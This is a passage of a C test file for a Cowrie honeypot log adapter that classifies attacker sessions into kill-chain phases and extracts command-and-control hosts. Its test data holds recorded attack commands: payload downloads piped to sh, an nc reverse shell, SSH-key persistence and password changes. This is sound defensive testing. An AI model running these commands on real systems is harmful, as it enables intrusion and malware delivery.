/*  test_cowrie.c - the Cowrie adapter: field mapping, the phase table, the quirks of real
    logs (truncated lines, reordering, bytes-repr versions, missing fields, non-objects)
    and one run over the smallest real radec73-2024 file ($SHARED_DIR/realdata). */
#include "cowrie.h"
#include "err.h"
#include "xalloc.h"

#include <jansson.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

/*  Observations a sink collected (copies). */
typedef struct {
    obs_t **obs; /* collected records, owned */
    size_t n;    /* number of records */
    size_t cap;  /* slots in obs */
    int checked; /* records that failed obs_check_record */
} s_got_t;

static int
s_collect(const obs_t *obs, void *arg)
{
    s_got_t *got = arg;
    obs_error_t err = {0};
    if (obs_check_record(obs, &err) != 0) {
        got->checked++;
    }
    xgrow(&got->obs, &got->cap, got->n + 1);
    got->obs[got->n++] = obs_dup(obs);
    return 0;
}

static void
s_got_clear(s_got_t *got)
{
    for (size_t i = 0; i < got->n; i++) {
        obs_destroy(&got->obs[i]);
    }
    free(got->obs);
    memset(got, 0, sizeof *got);
}

/*  Feeds NULL-terminated lines (line numbers from 1), finishes into got. */
static void
s_run(cowrie_t *cw, const char *const *lines, s_got_t *got)
{
    for (size_t i = 0; lines[i]; i++) {
        cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1);
    }
    assert_int_equal(cowrie_finish(cw, s_collect, got), 0);
    assert_int_equal(got->checked, 0);
}

#define EV(id, ip, sess, ts, extra)                                                                \
    "{\"eventid\":\"" id "\",\"src_ip\":\"" ip "\",\"session\":\"" sess "\",\"timestamp\":\"" ts   \
    "\"" extra "}"

static void
test_parse_time(void **state)
{
    (void)state;
    double t = 0;
    assert_int_equal(cowrie_parse_time("2019-12-03T03:29:04.584737Z", &t), 0);
    assert_true(t > 1575343744.5847 && t < 1575343744.5848);
    assert_int_equal(cowrie_parse_time("1970-01-01T00:00:00Z", &t), 0);
    assert_true(t == 0.0);
    assert_int_equal(cowrie_parse_time("2024-02-29T12:00:00+00:00", &t), 0);
    assert_true(t == 1709208000.0);
    assert_int_equal(cowrie_parse_time("2024-13-01T00:00:00Z", &t), CADRE_ERECORD);
    assert_int_equal(cowrie_parse_time("yesterday", &t), CADRE_ERECORD);
    assert_int_equal(cowrie_parse_time("2024-01-01T00:00:00.Z", &t), CADRE_ERECORD);
    assert_int_equal(cowrie_parse_time("2024-01-01T00:00:00+02:00", &t), CADRE_ERECORD);
}

static void
test_mapping(void **state)
{
    (void)state;
    const char *lines[] = {
        EV("cowrie.session.connect", "1.2.3.4", "s1", "2020-01-01T00:00:00.000000Z",
           ",\"sensor\":\"pot-1\""),
        EV("cowrie.client.version", "1.2.3.4", "s1", "2020-01-01T00:00:00.100000Z",
           ",\"version\":\"b'SSH-2.0-Go'\""),
        EV("cowrie.client.kex", "1.2.3.4", "s1", "2020-01-01T00:00:00.200000Z",
           ",\"hassh\":\"0123abcd\""),
        EV("cowrie.login.failed", "1.2.3.4", "s1", "2020-01-01T00:00:01.000000Z",
           ",\"username\":\"root\",\"password\":\"root\""),
        EV("cowrie.login.success", "1.2.3.4", "s1", "2020-01-01T00:00:02.000000Z",
           ",\"username\":\"root\",\"password\":\"toor\""),
        EV("cowrie.command.input", "1.2.3.4", "s1", "2020-01-01T00:00:03.000000Z",
           ",\"input\":\"ls -la\""),
        EV("cowrie.command.failed", "1.2.3.4", "s1", "2020-01-01T00:00:03.100000Z",
           ",\"input\":\"ls -la\""),
        EV("cowrie.command.failed", "1.2.3.4", "s1", "2020-01-01T00:00:03.200000Z",
           ",\"input\":\"Enter new UNIX password:\""),
        EV("cowrie.session.file_download", "1.2.3.4", "s1", "2020-01-01T00:00:04.000000Z",
           ",\"shasum\":\"aa11\",\"url\":\"http://user@evil.example:8080/x.sh\""),
        EV("cowrie.session.closed", "1.2.3.4", "s1", "2020-01-01T00:00:10.000000Z", ""),
        EV("cowrie.session.connect", "5.6.7.8", "s2", "2020-01-01T00:00:05.000000Z", ""),
        NULL};
    cowrie_t *cw = cowrie_new(NULL);
    for (size_t i = 0; lines[i]; i++) {
        assert_int_equal(cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1), 0);
    }
    assert_string_equal(cowrie_client_version(cw, "1.2.3.4"), "SSH-2.0-Go");
    assert_null(cowrie_client_version(cw, "5.6.7.8"));
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    assert_int_equal(got.n, 2);
    const obs_t *o = got.obs[0];
    assert_string_equal(o->id, "cowrie:1.2.3.4");
    assert_string_equal(o->ip, "1.2.3.4");
    assert_string_equal(o->hassh, "0123abcd");
    assert_null(o->ja3);
    /* Logins, then commands, then a download with a URL: three runs of one phase. */
    assert_int_equal(o->n_sessions, 3);
    const obs_session_t *s = &o->sessions[0];
    assert_string_equal(s->id, "s1");
    assert_string_equal(s->decky, "pot-1");
    assert_int_equal(s->phase, UKC_CREDENTIAL_ACCESS);
    assert_true(s->start == 1577836800.0);
    assert_true(s->duration == 2.0);
    assert_int_equal(s->n_commands, 0);
    assert_int_equal(s->n_creds, 2);
    assert_string_equal(s->creds[0].user, "root");
    assert_string_equal(s->creds[1].pass, "toor");
    s = &o->sessions[1];
    assert_string_equal(s->id, "s1#2");
    assert_string_equal(s->decky, "pot-1");
    assert_int_equal(s->phase, UKC_EXECUTION);
    assert_true(s->start == 1577836803.0);
    assert_true(s->duration > 0.199 && s->duration < 0.201);
    assert_int_equal(s->n_commands, 2);
    assert_string_equal(s->commands[0], "ls -la");
    assert_string_equal(s->commands[1], "Enter new UNIX password:");
    assert_int_equal(s->n_creds, 0);
    assert_null(s->payload_hash);
    s = &o->sessions[2];
    assert_string_equal(s->id, "s1#3");
    assert_int_equal(s->phase, UKC_COMMAND_AND_CONTROL);
    assert_true(s->start == 1577836804.0);
    assert_true(s->duration == 6.0); /* the last run reaches session.closed */
    assert_string_equal(s->payload_hash, "aa11");
    assert_string_equal(s->c2, "evil.example");
    const obs_t *o2 = got.obs[1];
    assert_string_equal(o2->id, "cowrie:5.6.7.8");
    assert_null(o2->hassh);
    assert_null(o2->sessions[0].decky);
    assert_int_equal(o2->sessions[0].phase, UKC_RECONNAISSANCE);
    assert_int_equal(cowrie_lines(cw), 11);
    assert_int_equal(cowrie_bad(cw), 0);
    assert_int_equal(cowrie_sessions(cw), 2);
    assert_int_equal(cowrie_cadre_sessions(cw), 4);
    assert_int_equal(cowrie_observations(cw), 2);
    s_got_clear(&got);
    cowrie_destroy(&cw);
    assert_null(cw);
}

/*  The phase of the last cadre session of a one-source input. */
static ukc_phase_t
s_phase_of(const char *const *lines)
{
    cowrie_t *cw = cowrie_new(NULL);
    s_got_t got = {0};
    s_run(cw, lines, &got);
    assert_int_equal(got.n, 1);
    ukc_phase_t phase = got.obs[0]->sessions[got.obs[0]->n_sessions - 1].phase;
    s_got_clear(&got);
    cowrie_destroy(&cw);
    return phase;
}

#define T0 "2020-01-01T00:00:00Z"
#define LOGIN_FAIL                                                                                 \
    EV("cowrie.login.failed", "9.9.9.9", "p", T0, ",\"username\":\"a\",\"password\":\"b\"")
#define LOGIN_OK                                                                                   \
    EV("cowrie.login.success", "9.9.9.9", "p", T0, ",\"username\":\"a\",\"password\":\"b\"")
#define CMD(text) EV("cowrie.command.input", "9.9.9.9", "p", T0, ",\"input\":\"" text "\"")

static void
test_phases(void **state)
{
    (void)state;
    const char *recon[] = {EV("cowrie.session.connect", "9.9.9.9", "p", T0, ""), NULL};
    assert_int_equal(s_phase_of(recon), UKC_RECONNAISSANCE);
    const char *cred[] = {LOGIN_FAIL, LOGIN_FAIL, NULL};
    assert_int_equal(s_phase_of(cred), UKC_CREDENTIAL_ACCESS);
    const char *cred_ok[] = {LOGIN_FAIL, LOGIN_OK, NULL};
    assert_int_equal(s_phase_of(cred_ok), UKC_CREDENTIAL_ACCESS);
    const char *upload[] = {
        LOGIN_OK, EV("cowrie.session.file_upload", "9.9.9.9", "p", T0, ",\"shasum\":\"bb\""), NULL};
    assert_int_equal(s_phase_of(upload), UKC_DELIVERY);
    const char *exec[] = {LOGIN_OK, CMD("ls"), CMD("echo hi"), NULL};
    assert_int_equal(s_phase_of(exec), UKC_EXECUTION);
    const char *disc[] = {LOGIN_OK, CMD("ls"), CMD("cat /proc/cpuinfo | grep name"), NULL};
    assert_int_equal(s_phase_of(disc), UKC_DISCOVERY);
    const char *uname[] = {LOGIN_OK, CMD("uname -a"), NULL};
    assert_int_equal(s_phase_of(uname), UKC_DISCOVERY);
    const char *pers[] = {LOGIN_OK, CMD("uname -a"),
                          CMD("echo ssh-rsa AAA >> ~/.ssh/authorized_keys"), NULL};
    assert_int_equal(s_phase_of(pers), UKC_PERSISTENCE);
    const char *chpw[] = {LOGIN_OK, CMD("echo root:x|chpasswd"), NULL};
    assert_int_equal(s_phase_of(chpw), UKC_PERSISTENCE);
    const char *c2[] = {LOGIN_OK, CMD("crontab -l"), CMD("cd /tmp; wget http://1.2.3.4/a"), NULL};
    assert_int_equal(s_phase_of(c2), UKC_COMMAND_AND_CONTROL);
    const char *tftp[] = {LOGIN_OK, CMD("tftp -g 1.2.3.4"), NULL};
    assert_int_equal(s_phase_of(tftp), UKC_COMMAND_AND_CONTROL);
    /* A "download" without a URL is Cowrie saving an echo redirect: no C2. */
    const char *echo[] = {LOGIN_OK, CMD("echo 321 > /tmp/x"),
                          EV("cowrie.session.file_download", "9.9.9.9", "p", T0,
                             ",\"shasum\":\"cc\",\"outfile\":\"x\""),
                          NULL};
    assert_int_equal(s_phase_of(echo), UKC_EXECUTION);
}

/*  sha256("321\n") is the C2 campaign's marker on sweetie-2020 (132 IPs): it is kept. */
static void
test_echo_321_kept(void **state)
{
    (void)state;
    const char *sha = "ff6f81930943c96a37d7741cd547ad90295a9bd63b6194b2a834a1d32bc8f85d";
    char line[512];
    snprintf(line, sizeof line,
             EV("cowrie.session.file_download", "9.9.9.9", "p", T0,
                ",\"shasum\":\"%s\",\"outfile\":\"x\""),
             sha);
    const char *lines[] = {LOGIN_OK, CMD("echo \\\"321\\\" > /var/tmp/.var03522123"), line, NULL};
    cowrie_t *cw = cowrie_new(NULL);
    s_got_t got = {0};
    s_run(cw, lines, &got);
    const obs_t *o = got.obs[0];
    const obs_session_t *s = &o->sessions[o->n_sessions - 1];
    assert_non_null(s->payload_hash);
    assert_string_equal(s->payload_hash, sha);
    assert_null(s->c2);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

static void
test_out_of_order(void **state)
{
    (void)state;
    const char *lines[] = {
        EV("cowrie.command.input", "7.7.7.7", "o", "2020-01-01T00:00:05.300000Z",
           ",\"input\":\"third\""),
        EV("cowrie.command.input", "7.7.7.7", "o", "2020-01-01T00:00:05.100000Z",
           ",\"input\":\"first\""),
        EV("cowrie.login.success", "7.7.7.7", "o", "2020-01-01T00:00:05.000000Z",
           ",\"username\":\"u\",\"password\":\"p\""),
        EV("cowrie.command.input", "7.7.7.7", "o", "2020-01-01T00:00:05.200000Z",
           ",\"input\":\"second\""),
        EV("cowrie.session.closed", "7.7.7.7", "o", "2020-01-01T00:00:05.900000Z", ""),
        NULL};
    cowrie_t *cw = cowrie_new(NULL);
    s_got_t got = {0};
    s_run(cw, lines, &got);
    assert_int_equal(got.obs[0]->n_sessions, 2);
    const obs_session_t *s = &got.obs[0]->sessions[0];
    assert_int_equal(s->phase, UKC_CREDENTIAL_ACCESS);
    assert_true(s->start == 1577836805.0);
    assert_true(s->duration == 0.0);
    s = &got.obs[0]->sessions[1];
    assert_int_equal(s->phase, UKC_EXECUTION);
    assert_int_equal(s->n_commands, 3);
    assert_string_equal(s->commands[0], "first");
    assert_string_equal(s->commands[1], "second");
    assert_string_equal(s->commands[2], "third");
    assert_true(s->start > 1577836805.099 && s->start < 1577836805.101);
    assert_true(s->duration > 0.799 && s->duration < 0.801);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

static void
test_bad_lines(void **state)
{
    (void)state;
    cowrie_t *cw = cowrie_new(NULL);
    const char *good = EV("cowrie.login.failed", "3.3.3.3", "b", T0, ",\"username\":\"root\"");
    assert_int_equal(cowrie_feed(cw, good, strlen(good), 1), 0); /* no password: no pair */
    const char *array = "[1, 2, 3]";
    assert_int_equal(cowrie_feed(cw, array, strlen(array), 2), CADRE_ERECORD);
    const char *no_ip = "{\"eventid\":\"cowrie.session.connect\",\"session\":\"x\","
                        "\"timestamp\":\"" T0 "\"}";
    assert_int_equal(cowrie_feed(cw, no_ip, strlen(no_ip), 3), CADRE_ERECORD);
    const char *bad_ts = EV("cowrie.session.connect", "3.3.3.3", "b", "not a time", "");
    assert_int_equal(cowrie_feed(cw, bad_ts, strlen(bad_ts), 4), CADRE_ERECORD);
    const char *ip_num =
        "{\"eventid\":\"e\",\"src_ip\":5,\"session\":\"x\",\"timestamp\":\"" T0 "\"}";
    assert_int_equal(cowrie_feed(cw, ip_num, strlen(ip_num), 5), CADRE_ERECORD);
    assert_int_equal(cowrie_feed(cw, "   ", 3, 6), 0); /* blank: ignored */
    const char *wrong_type = EV("cowrie.command.input", "3.3.3.3", "b", T0, ",\"input\":42");
    assert_int_equal(cowrie_feed(cw, wrong_type, strlen(wrong_type), 7), 0);
    const char *truncated = EV("cowrie.session.connect", "3.3.3.3", "b", T0, "");
    assert_int_equal(cowrie_feed(cw, truncated, strlen(truncated) - 7, 8), CADRE_ETRUNC);
    for (uint64_t i = 0; i < 30; i++) {
        assert_int_equal(cowrie_feed(cw, "garbage", 7, 100 + i), CADRE_ERECORD);
    }
    assert_int_equal(cowrie_lines(cw), 38);
    assert_int_equal(cowrie_bad(cw), 35);
    assert_int_equal(cowrie_bad_reported(cw), COWRIE_MAX_REPORTED);
    assert_int_equal(cowrie_bad_at(cw, 0)->line_no, 2);
    assert_int_equal(cowrie_bad_at(cw, 1)->line_no, 3);
    assert_non_null(strstr(cowrie_bad_at(cw, 1)->message, "src_ip"));
    assert_int_equal(cowrie_bad_at(cw, 4)->line_no, 8);
    assert_int_equal(cowrie_bad_at(cw, 19)->line_no, 114);
    assert_null(cowrie_bad_at(cw, 20));
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    assert_int_equal(got.n, 1);
    const obs_session_t *s = &got.obs[0]->sessions[0];
    assert_int_equal(s->n_creds, 0);
    assert_int_equal(s->n_commands, 0);
    assert_int_equal(s->phase, UKC_CREDENTIAL_ACCESS);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

static void
test_legacy_hassh(void **state)
{
    (void)state;
    const char *lines[] = {
        EV("cowrie.client.version", "4.4.4.4", "h", T0,
           ",\"version\":\"b\\\"SSH-2.0-libssh\\\"\",\"kexAlgs\":[\"kexa\",\"kexb\"],"
           "\"keyAlgs\":[\"ssh-rsa\"],\"encCS\":[\"aes128-ctr\"],\"macCS\":[\"hmac-sha1\"],"
           "\"compCS\":[\"none\"]"),
        EV("cowrie.client.version", "4.4.4.5", "i", T0,
           ",\"version\":\"SSH-2.0-x\",\"kexAlgs\":[\"kexa\"],\"encCS\":[\"aes128-ctr\"]"),
        NULL};
    cowrie_t *cw = cowrie_new(NULL);
    for (size_t i = 0; lines[i]; i++) {
        assert_int_equal(cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1), 0);
    }
    assert_string_equal(cowrie_client_version(cw, "4.4.4.4"), "SSH-2.0-libssh");
    assert_string_equal(cowrie_client_version(cw, "4.4.4.5"), "SSH-2.0-x");
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.n, 2);
    /* md5("kexa,kexb;aes128-ctr;hmac-sha1;none") */
    assert_string_equal(got.obs[0]->hassh, "febae66b2c33545ec8a86899d0799304");
    assert_null(got.obs[1]->hassh); /* lists incomplete: no HASSH */
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

/*  Every row of the phase table, by its own example. */
static void
test_rule_rows(void **state)
{
    (void)state;
    assert_true(cowrie_rule_count() > 40);
    for (size_t i = 0; i < cowrie_rule_count(); i++) {
        const cowrie_rule_t *r = cowrie_rule_at(i);
        ukc_phase_t got = cowrie_command_phase(r->example, NULL);
        if (got != r->phase) {
            fail_msg("row %zu ('%s'): example '%s' is %s, not %s", i, r->text, r->example,
                     ukc_phase_name(got), ukc_phase_name(r->phase));
        }
    }
    assert_null(cowrie_rule_at(cowrie_rule_count()));
}

/*  Commands and the phase the table gives them (priorities, program-word matching). */
static void
test_command_phases(void **state)
{
    (void)state;
    const struct {
        const char *cmd;
        ukc_phase_t phase;
    } cases[] = {
        {"ls -la", UKC_EXECUTION},
        {"echo hi", UKC_EXECUTION},
        {"cat /etc/passwd", UKC_EXECUTION},
        /* program words, not substrings: ".ssh " is no ssh, "nc" inside a word is no nc */
        {"mkdir ~/.ssh && chmod 700 ~/.ssh ", UKC_EXECUTION},
        {"sync; echo 3 > /proc/sys/vm/drop_caches", UKC_EXECUTION},
        {"/usr/bin/ssh -p 2222 admin@10.1.1.1", UKC_LATERAL_MOVEMENT},
        {"sudo -n true; sudo ps", UKC_DISCOVERY},
        {"/bin/busybox ps", UKC_DISCOVERY},
        {"LANG=C ps -ef", UKC_DISCOVERY},
        /* priorities */
        {"uname -a; echo x >> .ssh/authorized_keys", UKC_PERSISTENCE},
        {"chattr -ia .ssh; echo x >> .ssh/authorized_keys", UKC_PERSISTENCE},
        {"history -c; wget http://203.0.113.9/x", UKC_COMMAND_AND_CONTROL},
        {"pkill -9 xmrig; wget http://203.0.113.9/x", UKC_IMPACT},
        {"nc -l -p 4444", UKC_EXECUTION}, /* nc without a host: a listener */
        {"nc -lvp 4444", UKC_EXECUTION},
        {"echo \"321\" > /var/tmp/.var03522123", UKC_EXECUTION},
        {"echo -e \"pw\\npw\" | passwd", UKC_PERSISTENCE},
        {"enable", UKC_EXECUTION},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        ukc_phase_t got = cowrie_command_phase(cases[i].cmd, NULL);
        if (got != cases[i].phase) {
            fail_msg("'%s' is %s, not %s", cases[i].cmd, ukc_phase_name(got),
                     ukc_phase_name(cases[i].phase));
        }
    }
}

/*  C2 hosts named in command text. */
static void
test_command_c2(void **state)
{
    (void)state;
    const struct {
        const char *cmd;
        const char *host; /* NULL: none */
    } cases[] = {
        {"cd /tmp; wget http://203.0.113.5/bins.sh; chmod 777 bins.sh", "203.0.113.5"},
        {"wget -O /tmp/x http://user@evil.example:8080/a", "evil.example"},
        {"wget 198.51.100.7/x.sh", "198.51.100.7"},
        {"wget -q bins.sh", NULL},
        {"curl -s -o x https://dl.example.org/p | sh", "dl.example.org"},
        {"curl -fsSL http://[2001:db8::1]:81/x", "2001:db8::1"},
        {"/bin/busybox wget http://192.0.2.1/m -O- > m", "192.0.2.1"},
        {"tftp -g -r mips 198.51.100.9", "198.51.100.9"},
        {"tftp -r mips -g 198.51.100.9 69", "198.51.100.9"},
        {"tftp 198.51.100.10 -c get mips", "198.51.100.10"},
        {"busybox tftp -l x -r y -g tftp.example.net", "tftp.example.net"},
        {"ftpget -v -u anonymous -p x 192.0.2.44 m m", "192.0.2.44"},
        {"nc 203.0.113.7 4444 -e /bin/sh", "203.0.113.7"},
        {"nc -w 3 203.0.113.8 80 < /dev/null", "203.0.113.8"},
        {"ncat -lvp 4444", NULL},
        {"wget $URL", NULL},
        {"echo wget http://203.0.113.5/x", NULL}, /* echo is no transfer tool */
        {"cat x | 'wget' \"http://q.example/x\"", "q.example"},
        {"ls; curl http://a.example/1; wget http://b.example/2", "a.example"},
        {"wget \"http://unterminated.example/x", "unterminated.example"},
        {"nohup $SHELL -c \"curl http://129.144.180.26:60107/linux -o /tmp/Y; exec 6<>x\" &",
         "129.144.180.26"},
        {"sh -c 'cd /tmp; tftp -g -r a 192.0.2.200'", "192.0.2.200"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *host = NULL;
        cowrie_command_phase(cases[i].cmd, &host);
        if (cases[i].host ? !host || strcmp(host, cases[i].host) != 0 : host != NULL) {
            fail_msg("'%s': c2 '%s', wanted '%s'", cases[i].cmd, host ? host : "(none)",
                     cases[i].host ? cases[i].host : "(none)");
        }
        free(host);
    }
    assert_int_equal(cowrie_command_phase("wget http://203.0.113.5/x", NULL),
                     UKC_COMMAND_AND_CONTROL);
}

/*  One Cowrie session spanning phases becomes cadre sessions in time order; events
    without a phase of their own join the run they fall in; a command's C2 host lands on
    its run. */
static void
test_split(void **state)
{
    (void)state;
    const char *lines[] = {EV("cowrie.session.connect", "6.6.6.6", "k", "2020-01-01T00:00:00Z", ""),
                           EV("cowrie.client.version", "6.6.6.6", "k", "2020-01-01T00:00:01Z", ""),
                           EV("cowrie.login.failed", "6.6.6.6", "k", "2020-01-01T00:00:02Z",
                              ",\"username\":\"root\",\"password\":\"1\""),
                           EV("cowrie.login.success", "6.6.6.6", "k", "2020-01-01T00:00:03Z",
                              ",\"username\":\"root\",\"password\":\"2\""),
                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:04Z",
                              ",\"input\":\"uname -a\""),
                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:05Z",
                              ",\"input\":\"cat /proc/cpuinfo\""),
                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:06Z",
                              ",\"input\":\"cd /tmp; tftp -g -r m 198.51.100.9\""),
                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:07Z",
                              ",\"input\":\"echo 1 > /tmp/f\""),
                           EV("cowrie.session.file_download", "6.6.6.6", "k",
                              "2020-01-01T00:00:08Z", ",\"shasum\":\"dd\""),
                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:09Z",
                              ",\"input\":\"uname -m\""),
                           EV("cowrie.session.closed", "6.6.6.6", "k", "2020-01-01T00:00:20Z", ""),
                           NULL};
    cowrie_t *cw = cowrie_new(NULL);
    s_got_t got = {0};
    s_run(cw, lines, &got);
    const obs_t *o = got.obs[0];
    const struct {
        const char *id;
        ukc_phase_t phase;
        double start, duration;
        size_t commands, creds;
    } want[] = {
        {"k", UKC_CREDENTIAL_ACCESS, 0, 3, 0, 2},     {"k#2", UKC_DISCOVERY, 4, 1, 2, 0},
        {"k#3", UKC_COMMAND_AND_CONTROL, 6, 0, 1, 0}, {"k#4", UKC_EXECUTION, 7, 1, 1, 0},
        {"k#5", UKC_DISCOVERY, 9, 11, 1, 0},
    };
    assert_int_equal(o->n_sessions, 5);
    for (size_t i = 0; i < 5; i++) {
        const obs_session_t *s = &o->sessions[i];
        assert_string_equal(s->id, want[i].id);
        assert_int_equal(s->phase, want[i].phase);
        assert_true(s->start == 1577836800.0 + want[i].start);
        assert_true(s->duration == want[i].duration);
        assert_int_equal(s->n_commands, want[i].commands);
        assert_int_equal(s->n_creds, want[i].creds);
    }
    assert_string_equal(o->sessions[2].c2, "198.51.100.9");
    assert_null(o->sessions[2].payload_hash);
    assert_string_equal(o->sessions[3].payload_hash, "dd"); /* the echo's "download" */
    assert_null(o->sessions[3].c2);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

/*  A session fed in two parts (a log shipper's emissions, cowrie_set_part): each part's
    share of it gets ids named after the part, so the two appends never share a session id,
    and together they hold every command and credential of the session; a session whole in
    one part keeps the ids cadre ingest gives it. The adapter is reused across parts. */
static void
test_parts(void **state)
{
    (void)state;
    const char *lines[] = {EV("cowrie.session.connect", "6.6.6.6", "k", "2020-01-01T00:00:00Z", ""),
                           EV("cowrie.login.failed", "6.6.6.6", "k", "2020-01-01T00:00:02Z",
                              ",\"username\":\"root\",\"password\":\"1\""),
                           EV("cowrie.login.success", "6.6.6.6", "k", "2020-01-01T00:00:03Z",
                              ",\"username\":\"root\",\"password\":\"2\""),
                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:04Z",
                              ",\"input\":\"uname -a\""),
                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:05Z",
                              ",\"input\":\"cat /proc/cpuinfo\""),
                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:06Z",
                              ",\"input\":\"cd /tmp; tftp -g -r m 198.51.100.9\""),
                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:07Z",
                              ",\"input\":\"echo 1 > /tmp/f\""),
                           EV("cowrie.session.closed", "6.6.6.6", "k", "2020-01-01T00:00:20Z", ""),
                           EV("cowrie.session.connect", "7.7.7.7", "w", "2020-01-01T00:00:21Z", ""),
                           EV("cowrie.command.input", "7.7.7.7", "w", "2020-01-01T00:00:22Z",
                              ",\"input\":\"uname -a\""),
                           EV("cowrie.session.closed", "7.7.7.7", "w", "2020-01-01T00:00:23Z", ""),
                           NULL};
    cowrie_t *cw = cowrie_new(NULL);
    s_got_t got = {0};
    /* Part one: up to the second command; part two: the rest, with session w whole. */
    for (size_t i = 0; i < 4; i++) {
        cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1);
    }
    cowrie_set_part(cw, "f00d:0");
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    for (size_t i = 4; lines[i]; i++) {
        cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1);
    }
    cowrie_set_part(cw, "f00d:777");
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    assert_int_equal(got.n, 3);
    const char *want_k[] = {"k@f00d:0", "k@f00d:0#2", "k@f00d:777", "k@f00d:777#2", "k@f00d:777#3"};
    size_t n_k = 0, cmds = 0, creds = 0;
    for (size_t j = 0; j < 2; j++) {
        const obs_t *o = got.obs[j];
        assert_string_equal(o->id, "cowrie:6.6.6.6");
        for (size_t i = 0; i < o->n_sessions; i++) {
            assert_true(n_k < 5);
            assert_string_equal(o->sessions[i].id, want_k[n_k++]);
            cmds += o->sessions[i].n_commands;
            creds += o->sessions[i].n_creds;
        }
    }
    assert_int_equal(n_k, 5);
    assert_int_equal(cmds, 4);
    assert_int_equal(creds, 2);
    /* Whole in one part: cadre ingest's id. */
    assert_string_equal(got.obs[2]->id, "cowrie:7.7.7.7");
    assert_int_equal(got.obs[2]->n_sessions, 1);
    assert_string_equal(got.obs[2]->sessions[0].id, "w");
    s_got_clear(&got);
    /* No tag: cadre ingest's names for every session. */
    cowrie_set_part(cw, NULL);
    for (size_t i = 4; i < 8; i++) {
        cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1);
    }
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_string_equal(got.obs[0]->sessions[0].id, "k");
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

/*  opts.decky is the sensor of events that carry none, never of those that carry one. */
static void
test_default_decky(void **state)
{
    (void)state;
    const char *lines[] = {EV("cowrie.session.connect", "6.6.6.6", "a", "2020-01-01T00:00:00Z", ""),
                           EV("cowrie.session.connect", "7.7.7.7", "b", "2020-01-01T00:00:01Z",
                              ",\"sensor\":\"pot-b\""),
                           NULL};
    cowrie_opts_t opts = {.decky = "pot-x"};
    cowrie_t *cw = cowrie_new(&opts);
    s_got_t got = {0};
    s_run(cw, lines, &got);
    assert_int_equal(got.n, 2);
    assert_string_equal(got.obs[0]->sessions[0].decky, "pot-x");
    assert_string_equal(got.obs[1]->sessions[0].decky, "pot-b");
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

/*  Every Cowrie event type the adapter reads, and some it ignores. */
static void
test_event_types(void **state)
{
    (void)state;
    const char *lines[] = {
        EV("cowrie.session.connect", "8.8.4.4", "e", "2024-04-01T00:00:00Z",
           ",\"src_port\":40000,\"dst_port\":2222,\"protocol\":\"ssh\",\"sensor\":\"s\""),
        EV("cowrie.client.version", "8.8.4.4", "e", "2024-04-01T00:00:00.1Z",
           ",\"version\":\"SSH-2.0-libssh_0.9.6\""),
        EV("cowrie.client.kex", "8.8.4.4", "e", "2024-04-01T00:00:00.2Z",
           ",\"hassh\":\"f555226d\",\"kexAlgs\":[\"a\"]"),
        EV("cowrie.client.fingerprint", "8.8.4.4", "e", "2024-04-01T00:00:01Z",
           ",\"username\":\"admin\",\"fingerprint\":\"10:bd:be\",\"key\":\"ssh-rsa AAAA\","
           "\"type\":\"ssh-rsa\""),
        EV("cowrie.login.failed", "8.8.4.4", "e", "2024-04-01T00:00:02Z",
           ",\"username\":\"admin\",\"password\":\"x\""),
        EV("cowrie.login.success", "8.8.4.4", "e", "2024-04-01T00:00:03Z",
           ",\"username\":\"admin\",\"password\":\"y\""),
        EV("cowrie.session.params", "8.8.4.4", "e", "2024-04-01T00:00:03.5Z",
           ",\"arch\":\"linux-x64-lsb\""),
        EV("cowrie.client.size", "8.8.4.4", "e", "2024-04-01T00:00:03.6Z", ",\"width\":80"),
        EV("cowrie.client.var", "8.8.4.4", "e", "2024-04-01T00:00:03.7Z", ",\"name\":\"LANG\""),
        EV("cowrie.command.success", "8.8.4.4", "e", "2024-04-01T00:00:04Z",
           ",\"input\":\"cat /bin/busybox\""),
        EV("cowrie.command.input", "8.8.4.4", "e", "2024-04-01T00:00:05Z", ",\"input\":\"enable\""),
        EV("cowrie.command.failed", "8.8.4.4", "e", "2024-04-01T00:00:05.1Z",
           ",\"input\":\"enable\""),
        EV("cowrie.session.file_download.failed", "8.8.4.4", "e", "2024-04-01T00:00:06Z",
           ",\"url\":\"http://188.209.49.244/bot.x86_64\""),
        EV("cowrie.session.file_upload", "8.8.4.4", "e", "2024-04-01T00:00:07Z",
           ",\"shasum\":\"up1\",\"filename\":\"sshd\""),
        EV("cowrie.direct-tcpip.request", "8.8.4.4", "e", "2024-04-01T00:00:08Z",
